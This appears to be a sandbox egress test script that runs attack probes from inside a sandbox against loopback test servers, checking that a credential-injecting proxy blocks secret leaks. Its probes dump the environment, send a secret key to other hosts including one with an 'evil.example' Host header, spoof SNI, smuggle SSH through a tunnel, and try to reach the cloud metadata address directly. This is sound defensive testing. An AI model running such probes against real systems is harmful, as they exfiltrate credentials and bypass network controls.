"""Runs INSIDE the sandbox (stdlib only): every egress attack, each result kept raw.

``python probe.py MODE CONFIG_JSON``. MODE ``attacks`` (the run that may reach the
loopback servers) or ``strict`` (the run without ``allow_private``). CONFIG_JSON
gives the ports of the test servers and the secrets' names.

What the script received is written, unscrubbed, to ``$HOME/probe-MODE.json``
(the sandbox home is a host directory, so the host test reads exactly what the
sandbox saw: jhansi scrubs the run's stdout, which would hide a leak). The
script also prints its whole environment and every response body, as a leaking
script would.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

MODE = sys.argv[1]
CONFIG: dict[str, Any] = json.loads(sys.argv[2])
A, B, C, A_PLAIN = CONFIG["a"], CONFIG["b"], CONFIG["c"], CONFIG["a_plain"]
KEY_NAME, OTHER_NAME = CONFIG["key"], CONFIG["other"]
KEY = os.environ.get(KEY_NAME, "")
OTHER = os.environ.get(OTHER_NAME, "")
_proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:1"))
PROXY = (_proxy.hostname or "127.0.0.1", _proxy.port or 1)
TUNNEL_CA: str = CONFIG["tunnel_ca"]  # the tunnelled server's own CA (PEM text)
RUN_CA_MARK = "# jhansi: this run's egress CA"

results: dict[str, Any] = {}


def text(data: bytes) -> str:
    return data.decode("latin-1")


def read_head(sock: socket.socket) -> tuple[int, dict[str, str], bytes]:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            raise ConnectionError(f"closed after {data[:200]!r}")
        data += chunk
    head, _, rest = data.partition(b"\r\n\r\n")
    lines = text(head).split("\r\n")
    status = int(lines[0].split()[1])
    headers = {k.strip().lower(): v.strip() for k, _, v in (x.partition(":") for x in lines[1:])}
    length = int(headers.get("content-length", "0"))
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return status, headers, rest


def connect(target: str) -> tuple[int, dict[str, str], bytes, socket.socket]:
    """CONNECT through the forwarder, as any client would."""
    sock = socket.create_connection(PROXY, timeout=15)
    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    status, headers, body = read_head(sock)
    return status, headers, body, sock


def probe(name: str, function: Any, *args: Any) -> None:
    """Run one probe; whatever it returns, or the error it raised, is its result."""
    try:
        results[name] = function(*args)
    except Exception as exc:  # every failure is a result to look at
        results[name] = {"error": f"{type(exc).__name__}: {exc}"}


def answer(status: int, headers: Any, body: bytes) -> dict[str, Any]:
    return {"status": status, "headers": [[k, v] for k, v in headers.items()], "body": text(body)}


def fetch(
    url: str,
    headers: dict[str, str] | None = None,
    data: Any = None,
    cadata: str | None = None,
    method: str | None = None,
) -> dict[str, Any]:
    """An ordinary urllib request: through HTTPS_PROXY, trusting SSL_CERT_FILE (or cadata)."""
    context = ssl.create_default_context(cadata=cadata)
    request = urllib.request.Request(  # noqa: S310 - https/http URLs built above
        url, data=data, headers=headers or {}, method=method
    )
    try:
        with urllib.request.urlopen(request, timeout=20, context=context) as response:  # noqa: S310
            return answer(response.status, response.headers, response.read())
    except urllib.error.HTTPError as exc:
        return answer(exc.code, exc.headers, exc.read())


def refused_connect(target: str) -> dict[str, Any]:
    status, headers, body, sock = connect(target)
    sock.close()
    return {"status": status, "refusal": headers.get("x-jhansi-refusal", ""), "body": text(body)}


def tunnel_then(target: str, first: bytes) -> dict[str, Any]:
    """CONNECT, then send ``first`` where a TLS ClientHello belongs."""
    status, _, _, sock = connect(target)
    out: dict[str, Any] = {"connect": status}
    sock.sendall(first)
    try:
        status, headers, body = read_head(sock)
        out.update(status=status, refusal=headers.get("x-jhansi-refusal", ""), body=text(body))
    except (OSError, ValueError, IndexError) as exc:
        out["error"] = f"{type(exc).__name__}: {exc}"
    sock.close()
    return out


def intercepted_raw(request: bytes, sni: str | None = "localhost") -> dict[str, Any]:
    """CONNECT to the bound host, TLS trusting the run CA, then a hand-written request."""
    status, _, _, sock = connect(f"localhost:{A}")
    out: dict[str, Any] = {"connect": status}
    context = ssl.create_default_context()
    tls = context.wrap_socket(sock, server_hostname=sni)
    tls.sendall(request)
    status, headers, body = read_head(tls)
    out.update(status=status, refusal=headers.get("x-jhansi-refusal", ""), body=text(body))
    tls.close()
    return out


def wrong_sni(sni: str | None) -> dict[str, Any]:
    """The bound host CONNECTed, another name (or none) in the ClientHello."""
    status, _, _, sock = connect(f"localhost:{A}")
    context = ssl.create_default_context()
    context.check_hostname = False  # the attacker accepts whatever comes back
    try:
        tls = context.wrap_socket(sock, server_hostname=sni)
    except (ssl.SSLError, OSError) as exc:
        return {"connect": status, "handshake": f"{type(exc).__name__}: {exc}"}
    tls.sendall(b"GET /echo HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % A)
    try:
        got = tls.recv(65536)
    except (ssl.SSLError, OSError) as exc:
        return {"connect": status, "handshake": "ok", "read": f"{type(exc).__name__}: {exc}"}
    return {"connect": status, "handshake": "ok", "read": text(got)}


def alpn_h2() -> dict[str, Any]:
    """Offer only h2 to the intercepted host, then speak HTTP/2."""
    status, _, _, sock = connect(f"localhost:{A}")
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    out: dict[str, Any] = {"connect": status}
    try:
        tls = context.wrap_socket(sock, server_hostname="localhost")
    except (ssl.SSLError, OSError) as exc:
        out["handshake"] = f"{type(exc).__name__}: {exc}"
        return out
    out["alpn"] = tls.selected_alpn_protocol()
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
    try:
        status, headers, body = read_head(tls)
        out.update(status=status, refusal=headers.get("x-jhansi-refusal", ""), body=text(body))
    except (OSError, ValueError, IndexError) as exc:
        out["read"] = f"{type(exc).__name__}: {exc}"
    return out


def direct(host: str, port: int) -> str:
    """A TCP connection that does not go through the forwarder."""
    try:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(3)
            sock.connect((host, port))
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
    return "connected"


def direct_udp(host: str, port: int) -> str:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"\x00" * 12, (host, port))
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
    return "sent"


def resolve(name: str) -> str:
    try:
        return repr(socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM))
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"


def run_ca() -> str:
    bundle = Path(os.environ["SSL_CERT_FILE"]).read_text(encoding="ascii")
    return bundle.split(RUN_CA_MARK, 1)[1]


def bearer(value: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {value}"}


def attacks() -> None:
    # The environment, as a leaking script would dump it.
    results["environ"] = dict(os.environ)
    for name, value in sorted(os.environ.items()):
        print(f"{name}={value}")
    # The bound host: the server gets the key, the script sees only the placeholder.
    probe("echo", fetch, f"https://localhost:{A}/auth-echo", bearer(KEY))
    probe("echo_chunked", fetch, f"https://localhost:{A}/auth-echo-chunked", bearer(KEY))
    probe("echo_big", fetch, f"https://localhost:{A}/big", bearer(KEY))
    results["echo_big"]["body"] = results["echo_big"].get("body", "").replace(".", "")
    probe("other_on_b", fetch, f"https://localhost:{B}/echo", bearer(OTHER))
    # The placeholder where it does not belong.
    probe("key_to_b", fetch, f"https://localhost:{B}/echo", bearer(KEY))
    probe("key_to_tunnel", fetch, f"https://localhost:{C}/echo", bearer(KEY), None, TUNNEL_CA)
    probe("key_in_path", fetch, f"https://localhost:{A}/echo/{KEY}")
    probe("key_in_query", fetch, f"https://localhost:{A}/echo?key={KEY}")
    encoded = "".join(f"%{b:02X}" for b in KEY.encode())
    probe("key_in_query_encoded", fetch, f"https://localhost:{A}/echo?key={encoded}")
    probe("key_in_body", fetch, f"https://localhost:{A}/echo", {}, json.dumps({"k": KEY}).encode())
    half = len(KEY) // 2
    chunks = [b"x" * 5 + KEY[:half].encode(), KEY[half:].encode() + b"y"]
    probe(
        "key_in_chunked_body", fetch, f"https://localhost:{A}/echo", {}, iter(chunks), None, "POST"
    )
    probe("key_over_plain_http", fetch, f"http://localhost:{A_PLAIN}/echo", bearer(KEY))
    probe("plain_http", fetch, f"http://localhost:{A_PLAIN}/echo")
    # Hosts, ports and addresses.
    refused: dict[str, Any] = {}
    for target in CONFIG["refused_targets"]:
        try:
            refused[target] = refused_connect(target)
        except Exception as exc:
            refused[target] = {"error": f"{type(exc).__name__}: {exc}"}
    results["refused"] = refused
    probe("urllib_not_allowed", fetch, "https://api.example.com/")
    # TLS identity and protocol.
    probe(
        "host_header_other",
        intercepted_raw,
        b"GET /echo HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer %s\r\n\r\n"
        % KEY.encode(),
    )
    probe(
        "host_header_other_port",
        intercepted_raw,
        b"GET /echo HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % B,
    )
    probe("sni_other", wrong_sni, "evil.example")
    probe("sni_allowed_other", wrong_sni, "api.example.com")
    probe("sni_none", wrong_sni, None)
    probe("alpn_h2", alpn_h2)
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    probe("h2_preface_tunnel", tunnel_then, f"localhost:{C}", preface)
    probe("http_in_tunnel", tunnel_then, f"localhost:{C}", b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
    probe("ssh_in_tunnel", tunnel_then, f"localhost:{C}", b"SSH-2.0-OpenSSH_9.6\r\n")
    # No way out but the forwarder.
    results["interfaces"] = [name for _, name in socket.if_nameindex()]
    results["direct"] = {
        f"{host}:{port}": direct(host, port)
        for host, port in [
            ("127.0.0.1", A),
            ("127.0.0.1", C),
            ("::1", A),
            ("10.0.0.1", 443),
            ("169.254.169.254", 80),
            ("1.1.1.1", 443),
            ("8.8.8.8", 53),
        ]
    }
    results["direct_udp"] = direct_udp("8.8.8.8", 53)
    results["resolve"] = resolve("example.com")
    results["forwarder"] = direct(*PROXY)
    results["run_ca"] = run_ca()


def strict() -> None:
    results["environ"] = dict(os.environ)
    probe("urllib_bound", fetch, f"https://localhost:{A}/echo", bearer(KEY))
    probe("urllib_tunnel", fetch, f"https://localhost:{C}/echo", None, None, TUNNEL_CA)
    for name, target in [
        ("connect_bound", f"localhost:{A}"),
        ("connect_tunnel", f"localhost:{C}"),
        ("connect_literal", f"127.0.0.1:{A}"),
    ]:
        probe(name, refused_connect, target)


def main() -> None:
    attacks() if MODE == "attacks" else strict()
    raw = json.dumps(results, sort_keys=True)
    (Path(os.environ["HOME"]) / f"probe-{MODE}.json").write_text(raw, encoding="utf-8")
    print("PROBE " + raw)


main()
